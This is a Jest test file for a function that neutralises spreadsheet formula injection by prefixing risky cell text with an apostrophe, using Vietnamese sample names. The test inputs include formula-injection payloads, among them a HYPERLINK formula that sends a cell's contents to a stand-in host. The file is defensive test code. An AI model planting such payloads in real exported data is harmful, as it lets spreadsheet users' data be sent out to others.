import { describe, expect, it } from '@jest/globals';
import { asTyped, neutralised } from '../../../domain/text/formula.ts';

describe('a text that a spreadsheet would run (EX11)', () => {
  it.each([
    '=HYPERLINK("http://example.invalid/?"&C2,"Bảo")',
    '+84 Bảo',
    '-Đức',
    '- Em tiến bộ',
    '@SUM(1+1)',
    '\tTab trước',
    '\r=1',
    '\n=1',
    '  =1+1',
    '\u00A0=1+1',
    '\uFF1D1+1',
    "'=1",
  ])('%j gets an apostrophe in front, and comes back as it was', (text) => {
    expect(neutralised(text)).toBe(`'${text}`);
    expect(asTyped(neutralised(text))).toBe(text);
  });

  it.each(['', 'Nguyễn Văn An', '9', "'", "'An'", "D'Arcy", 'a=b', 'Em - tiến bộ', '049307000001', "''An"])(
    '%j stays as it is, there and back',
    (text) => {
      expect(neutralised(text)).toBe(text);
      expect(asTyped(text)).toBe(text);
    },
  );
});
